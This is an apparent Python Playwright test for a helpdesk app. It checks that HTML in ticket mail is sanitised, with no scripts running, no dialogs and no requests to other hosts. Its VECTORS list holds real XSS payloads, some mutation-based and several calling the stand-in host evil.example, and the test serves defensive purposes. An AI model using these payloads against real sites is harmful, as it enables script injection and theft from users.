"""Hostile HTML in the frame of a real browser: nothing runs, nothing is asked for."""

from collections.abc import Callable

from playwright.sync_api import Page
from sqlalchemy import update

from helpdesk.tickets.models import Message
from tests.browser.conftest import Served

CLEAR = 21
EVIL = "https://evil.example/"
ACTIVE = "script, img, iframe, object, embed, form, style, svg, math, template, [onerror], base"
VECTORS = (
    "<script>alert(1)</script>",
    f"<script src='{EVIL}a.js'></script>",
    f"<img src='{EVIL}a.gif' onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    f"<svg><image href='{EVIL}b.svg'/><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><a rel='--><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)' id=click>x</a><a href='java\tscript:alert(1)'>y</a>",
    "<a href='\u2028javascript:alert(1)'>y</a><a href='data:text/html,<script>alert(1)</script>'>",
    f"<iframe src='{EVIL}f'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data='{EVIL}o'></object><embed src='{EVIL}e'>",
    f"<link rel=stylesheet href='{EVIL}s.css'><style>@import '{EVIL}i.css'</style>",
    f"<div style='background:url({EVIL}u.png)'>x</div>",
    f"<base href='{EVIL}'><meta http-equiv=refresh content='0;url={EVIL}r'>",
    f"<form action='{EVIL}p'><button autofocus onfocus=alert(1)>x</button></form>",
    f"<video poster='{EVIL}v.png'><source src='{EVIL}v.mp4' onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    f"<table background='{EVIL}t.png'><td background='{EVIL}d.png'>x</table>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><img src=x onerror=alert(1)></title><textarea></textarea><img src=x onerror=alert(1)>",
    f"<a href='x' ping='{EVIL}ping'>x</a><p id=x tabindex=1 onfocus=alert(1)></p>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[><img src=x onerror=alert(1)>]]>",
    f"<body onload=alert(1) background='{EVIL}b'><input onfocus=alert(1) autofocus>",
)


def test_nothing_in_a_mail_runs_or_loads(
    served: Served, page: Page, signed_in: Callable[[str], Page]
):
    asked: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    signed_in("sari")
    for vector in VECTORS:
        with served.database.transaction() as tx:
            changed = update(Message).where(Message.id == CLEAR * 10)
            tx.session.execute(changed.values(html=f"<hr>{vector}<p>end</p>"))

        page.goto(f"{served.url}/tickets/{CLEAR}/messages/{CLEAR * 10}/html")

        assert page.locator(".mail hr").count() >= 1, vector
        assert page.locator(f".mail :is({ACTIVE})").count() == 0, vector
    page.goto(f"{served.url}/tickets/{CLEAR}")
    page.locator("[data-original]").first.click()
    page.wait_for_timeout(200)
    assert dialogs == []
    assert [url for url in asked if not url.startswith((served.url, "data:"))] == []
